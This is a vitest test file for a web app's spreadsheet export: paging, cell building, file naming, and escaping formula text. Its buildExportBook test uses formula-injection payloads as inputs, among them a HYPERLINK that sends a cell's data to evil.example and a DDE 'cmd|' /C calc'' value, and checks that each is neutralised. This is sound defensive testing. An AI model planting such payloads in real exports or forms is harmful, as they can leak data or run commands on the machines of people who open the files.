import * as xlsx from '@e965/xlsx';
import { describe, expect, it, vi } from 'vitest';
import { buildExportBook, buildSheetCells, collectRows, nameExportFile } from './export-rows.ts';

/** A list of `total` numbered rows served in pages as the server's list calls do. */
function serveRows(total: number) {
  return vi.fn(async ({ pageNum, pageSize }: { pageNum: number; pageSize: number }) => {
    const start = (pageNum - 1) * pageSize;
    const rows = Array.from({ length: Math.max(0, Math.min(pageSize, total - start)) }, (_, index) => start + index);
    return { rows, total };
  });
}

describe('collectRows', () => {
  it.each([
    [0, 1],
    [1, 1],
    [50, 1],
    [51, 2],
    [120, 3],
  ])('reads all %i rows in order, in %i pages of 50', async (total, pages) => {
    const loadPage = serveRows(total);
    const result = await collectRows(loadPage);
    expect(result).toEqual({ rows: Array.from({ length: total }, (_, index) => index), total, isCapped: false });
    expect(loadPage).toHaveBeenCalledTimes(pages);
    expect(loadPage.mock.calls.map(([paging]) => paging.pageSize)).toEqual(Array(pages).fill(50));
  });

  it('stops at the limit and says rows were left out', async () => {
    const loadPage = serveRows(1_000);
    const result = await collectRows(loadPage, 120);
    expect(result.rows).toHaveLength(120);
    expect(result).toMatchObject({ total: 1_000, isCapped: true });
    expect(loadPage).toHaveBeenCalledTimes(3);
  });

  it('ends when a page comes back short (the list shrank meanwhile)', async () => {
    const loadPage = vi.fn(async ({ pageNum }: { pageNum: number }) => ({
      rows: pageNum === 1 ? Array(50).fill('row') : ['last'],
      total: 200,
    }));
    const result = await collectRows(loadPage);
    expect(result.rows).toHaveLength(51);
    expect(loadPage).toHaveBeenCalledTimes(2);
    expect(result.isCapped).toBe(true);
  });

  it('passes a failed page on (no file from half a list)', async () => {
    const loadPage = vi
      .fn()
      .mockResolvedValueOnce({ rows: Array(50).fill(1), total: 80 })
      .mockRejectedValue(new Error('down'));
    await expect(collectRows(loadPage)).rejects.toThrow('down');
  });
});

describe('buildSheetCells', () => {
  it('writes the headings, then each row in column order, empty values as empty cells', () => {
    const columns = [
      { title: 'Order No.', value: (row: { no: string; total: number | null }) => row.no },
      { title: 'Total', value: (row: { no: string; total: number | null }) => row.total },
    ];
    expect(
      buildSheetCells(columns, [
        { no: 'BF1', total: 12.5 },
        { no: 'BF2', total: null },
      ]),
    ).toEqual([
      ['Order No.', 'Total'],
      ['BF1', 12.5],
      ['BF2', ''],
    ]);
  });
});

describe('formula text in exports (docs/api.md "Formula cells")', () => {
  it('escapes text cells of rows, never numbers', () => {
    const columns = [
      { title: 'Note', value: (row: { note: string; amount: number }) => row.note },
      { title: 'Amount', value: (row: { note: string; amount: number }) => row.amount },
    ];
    expect(buildSheetCells(columns, [{ note: '=1+1', amount: -30 }])).toEqual([
      ['Note', 'Amount'],
      ["'=1+1", -30],
    ]);
  });
});

describe('buildExportBook', () => {
  type Row = { orderNo: string; remark: string; contact: string; amount: number };
  const columns = [
    { title: 'Order No.', value: (row: Row) => row.orderNo },
    { title: '=Remark', value: (row: Row) => row.remark },
    { title: 'Contact', value: (row: Row) => row.contact },
    { title: 'Amount', value: (row: Row) => row.amount },
  ];

  it('writes an xlsx whose text cells read back neutralised (apostrophe first), numbers as numbers', () => {
    const rows: Row[] = [
      {
        orderNo: 'BF20261125-000001',
        remark: '=HYPERLINK("http://evil.example/?x="&A2,"click")',
        contact: '+86 138 0013 8000',
        amount: -30,
      },
      { orderNo: 'BF20261125-000002', remark: "@SUM(1+9)*cmd|' /C calc'!A0", contact: '\t=1+1', amount: 12.5 },
      { orderNo: 'BF20261125-000003', remark: '客户 = 张三', contact: '-', amount: 0 },
    ];
    const bytes = xlsx.write(buildExportBook(xlsx, 'Orders with a very long list name, cut', columns, rows), {
      type: 'array',
      bookType: 'xlsx',
    }) as ArrayBuffer;
    const book = xlsx.read(new Uint8Array(bytes), { type: 'array', cellFormula: true });
    expect(book.SheetNames).toEqual(['Orders with a very long list na']);
    const sheet = book.Sheets[book.SheetNames[0] as string] as xlsx.WorkSheet;
    expect(xlsx.utils.sheet_to_json(sheet, { header: 1, raw: true })).toEqual([
      ['Order No.', "'=Remark", 'Contact', 'Amount'],
      ['BF20261125-000001', '\'=HYPERLINK("http://evil.example/?x="&A2,"click")', "'+86 138 0013 8000", -30],
      ['BF20261125-000002', "'@SUM(1+9)*cmd|' /C calc'!A0", "'\t=1+1", 12.5],
      ['BF20261125-000003', '客户 = 张三', "'-", 0],
    ]);
    // No cell of the file is a formula: every one is a plain text or number.
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
    expect(
      cells.every(([, cell]) => !(cell as xlsx.CellObject).f && ['s', 'n'].includes((cell as xlsx.CellObject).t)),
    ).toBe(true);
  });

  it('is the only spreadsheet writer of the web app: every back-office export goes through ExportButton', () => {
    // Every source file of the app as text (tests left out).
    const sources = import.meta.glob<string>(['../../**/*.{ts,tsx}', '!../../**/*.test.{ts,tsx}'], {
      query: '?raw',
      import: 'default',
      eager: true,
    });
    // Keys are relative to this folder: './export-button.tsx', '../../features/…'.
    const named = Object.entries(sources);
    const writers = named
      .filter(([, text]) => /@e965\/xlsx|aoa_to_sheet|json_to_sheet|writeFile|text\/csv/.test(text))
      .map(([file]) => file);
    const exporters = named.filter(([, text]) => /<ExportButton\b/.test(text)).map(([file]) => file);
    expect(writers.sort()).toEqual(['./export-button.tsx', './export-rows.ts']);
    expect(exporters.length).toBeGreaterThanOrEqual(11); // orders, customers, statements, ledger, rebates, stock…
  });
});

describe('nameExportFile', () => {
  it.each([
    ['Orders', 'Orders 2026-11-05.xlsx'],
    ['收付款', '收付款 2026-11-05.xlsx'],
    ['a/b:c*?"<>|\u0000d', 'a b c d 2026-11-05.xlsx'],
    ['   ', 'export 2026-11-05.xlsx'],
  ])('names %j %j', (listName, fileName) => {
    expect(nameExportFile(listName, new Date(2026, 10, 5, 9, 30))).toBe(fileName);
  });
});
